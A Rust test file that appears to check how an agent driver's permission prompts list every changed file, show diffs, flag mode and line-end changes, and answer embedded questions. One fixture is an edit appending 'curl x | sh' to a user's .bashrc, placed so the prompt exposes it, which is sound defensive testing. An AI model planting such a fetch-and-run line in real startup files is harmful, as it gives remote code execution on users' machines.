//! Tests of approvals: each names every file that the action changes.

use super::{hear, in_a_turn, sent};
use crate::agent::acp::Acp;
use crate::agent::acp::agents::opencode::PROFILE as OPENCODE;
use crate::agent::acp::profile::GENERIC;
use crate::agent::{AgentEvent, Driver, DriverOutput, Reply};
use crate::protocol::question::{Answer, Subject};
use serde_json::{Value, json};

fn asked(driver: &mut Acp, mut call: Value) -> Subject {
    call["toolCallId"] = json!("c");
    let params = json!({"sessionId": "s", "toolCall": call, "options": [{"optionId": "o", "kind": "allow_once"}]});
    let line = json!({"jsonrpc": "2.0", "id": 9, "method": "session/request_permission", "params": params});
    let (_, events) = hear(driver, &line);
    let Some(AgentEvent::Ask { asks, .. }) = events.last() else { panic!("{events:?}") };
    asks[0].subject.clone().unwrap()
}

fn paths(subject: &Subject) -> Vec<&str> {
    subject.locations.iter().map(|place| place.path.unredacted()).collect()
}

fn diff(path: &str, old: &str, new: &str) -> Value {
    json!({"type": "diff", "path": path, "oldText": old, "newText": new})
}

#[test]
fn each_file_of_an_edit_is_named_whether_a_location_or_a_diff_names_it() {
    let content = json!([diff("/p/a", "1\n", "2\n"), diff("/home/u/.bashrc", "", "curl x | sh\n")]);
    let call = json!({"kind": "edit", "title": "Edit a", "locations": [{"path": "a"}], "content": content});
    let subject = asked(&mut in_a_turn(&GENERIC), call);
    assert_eq!(paths(&subject), ["a", "/home/u/.bashrc"], "a file is named once");
    let detail = "file a\nupdate /p/a\n-1\n+2\nadd /home/u/.bashrc\n+curl x | sh\n";
    assert_eq!(subject.detail.unredacted(), detail);
    assert_eq!(subject.title.unredacted(), "Edit 2 files");
}

#[test]
fn the_input_of_an_edit_names_files_too() {
    let diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-1\n+2\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n";
    for (input, files) in [
        (json!({"file_path": "/etc/x"}), &["/p/a", "/etc/x"][..]),
        (json!({"diff": diff}), &["/p/a", "x", "y"]),
        (json!({"filepath": "b, c", "files": [{"filePath": "/p/b", "movePath": "/p/c"}]}), &["/p/a", "/p/b", "/p/c"]),
    ] {
        let call = json!({"kind": "edit", "title": "t", "locations": [{"path": "/p/a"}], "rawInput": input});
        let subject = asked(&mut in_a_turn(&OPENCODE), call);
        assert_eq!(paths(&subject), files);
        let detail = subject.detail.unredacted();
        assert!(files.iter().all(|file| detail.contains(file)), "{detail}");
    }
}

/// ACP lets a request leave out what its call said before.
#[test]
fn a_request_shows_the_diffs_and_the_files_that_its_call_had_before() {
    for later in [json!({}), json!({"locations": [{"path": "/p/a"}]}), json!({"rawInput": {"command": "touch /p/a"}})] {
        let mut driver = in_a_turn(&GENERIC);
        let update = json!({"sessionUpdate": "tool_call", "toolCallId": "c", "kind": "edit", "title": "t",
            "content": [diff("/etc/b", "1\n", "2\n")]});
        let params = json!({"sessionId": "s", "update": update});
        hear(&mut driver, &json!({"jsonrpc": "2.0", "method": "session/update", "params": params}));
        let subject = asked(&mut driver, later);
        assert!(paths(&subject).contains(&"/etc/b"), "{subject:?}");
        assert!(subject.detail.unredacted().contains("update /etc/b\n-1\n+2\n"), "{}", subject.detail.unredacted());
    }
}

#[test]
fn a_change_that_no_line_shows_is_named() {
    let mode = json!({"type": "diff", "path": "/p/a", "oldText": "1", "newText": "1", "_meta": {"mode": "755"}});
    for (content, shown) in [
        (diff("/p/a", "1\r\n2\r\n", "1\n2\n"), "update /p/a\nOnly line ends change.\n"),
        (diff("/p/a", "1\n2", "1\n2\n"), "update /p/a\nOnly line ends change.\n"),
        (diff("/p/a", "1\r\n2\n", "1\n3\n"), "update /p/a\n-1\r\n-2\n+1\n+3\n"),
        (mode, "update /p/a\nNo line changes; only the file's mode may change.\nmode: \"755\"\n"),
    ] {
        let subject = asked(&mut in_a_turn(&GENERIC), json!({"kind": "edit", "title": "t", "content": [content]}));
        assert_eq!(subject.detail.unredacted(), shown);
    }
}

#[test]
fn a_command_that_nobody_states_has_no_detail() {
    for input in [json!({}), json!({"cwd": "/p", "timeout": 5, "description": "Clean up"})] {
        let call = json!({"kind": "execute", "title": "Run it", "rawInput": input});
        assert!(asked(&mut in_a_turn(&GENERIC), call).detail.is_blank());
    }
    let content = json!([{"type": "content", "content": {"type": "text", "text": "Approve: touch a"}}]);
    let call = json!({"kind": "execute", "title": "Bash", "content": content});
    assert_eq!(asked(&mut in_a_turn(&GENERIC), call).detail.unredacted(), "Bash\nApprove: touch a");
    let stated = json!({"kind": "execute", "title": "Run it", "rawInput": {"cmd": ["rm", "a"]}});
    assert_eq!(asked(&mut in_a_turn(&GENERIC), stated).detail.unredacted(), "Run it\ncmd: [\"rm\",\"a\"]");
}

/// Qwen Code asks its questions by a permission.
#[test]
fn an_option_that_reaches_beyond_its_request_is_not_chosen() {
    let option = |id: &str, name: &str, kind: &str| json!({"optionId": id, "name": name, "kind": kind});
    for (options, wanted) in [
        // Of OpenHands, in another order.
        (json!([option("risk_based", "Ask by risk", "allow_once"), option("accept", "Yes", "allow_once")]), "accept"),
        (json!([option("a", "Allow for this session", "allow_once"), option("b", "Allow", "allow_once")]), "b"),
        (json!([option("a", "Always", "allow_always"), option("b", "Allow this session", "allow_once")]), "b"),
    ] {
        let mut driver = in_a_turn(&GENERIC);
        let call = json!({"toolCallId": "c", "title": "x", "kind": "execute", "rawInput": {"command": "make"}});
        let params = json!({"sessionId": "s", "toolCall": call, "options": options});
        let request = json!({"jsonrpc": "2.0", "id": 0, "method": "session/request_permission", "params": params});
        let (_, events) = hear(&mut driver, &request);
        let Some(AgentEvent::Ask { key, .. }) = events.last() else { panic!("{events:?}") };
        let mut out = DriverOutput::default();
        driver.answer(key, &[Reply::Allowed], &mut out);
        assert_eq!(sent(&out)[0]["result"]["outcome"]["optionId"], wanted);
    }
}

#[test]
fn a_permission_that_holds_questions_asks_them() {
    let questions = json!([
        {"question": "Where?", "header": "Storage", "options": [{"label": "A"}, {"label": "B"}]},
        {"question": "Which ones?", "multiSelect": true, "options": [{"label": "C"}, {"label": "D"}]}
    ]);
    let call = json!({"toolCallId": "c", "kind": "think", "title": "Ask user 2 questions", "_meta":
        {"qwenInteractionKind": "user_question", "qwenQuestions": questions}});
    let options = json!([{"optionId": "cancel", "kind": "reject_once"}, {"optionId": "submit", "kind": "allow_once"}]);
    let params = json!({"sessionId": "s", "toolCall": call, "options": options});
    let line = json!({"jsonrpc": "2.0", "id": 9, "method": "session/request_permission", "params": params});
    let mut driver = in_a_turn(&GENERIC);
    let (_, events) = hear(&mut driver, &line);
    let Some(AgentEvent::Ask { key, asks, .. }) = events.last() else { panic!("{events:?}") };
    assert!(asks.iter().all(|ask| ask.subject.is_none()) && asks[1].text.unredacted() == "Which ones?", "{asks:?}");
    let replies = [Reply::Answer(Answer::One("B".into())), Reply::Answer(Answer::Many(vec!["C".into(), "D".into()]))];
    let answered = |driver: &mut Acp, replies: &[Reply]| {
        let mut out = DriverOutput::default();
        driver.answer(key, replies, &mut out);
        sent(&out)[0]["result"].clone()
    };
    let selected = json!({"outcome": "selected", "optionId": "submit"});
    assert_eq!(answered(&mut driver, &replies), json!({"outcome": selected, "answers": {"0": "B", "1": "C, D"}}));

    hear(&mut driver, &line);
    let nobody = answered(&mut driver, &[Reply::NoUser, Reply::Declined(None)]);
    assert!(nobody["answers"]["0"].as_str().unwrap().starts_with("No user is present"), "{nobody}");
    assert!(nobody["answers"]["1"].as_str().unwrap().starts_with("The user declined"), "{nobody}");
}
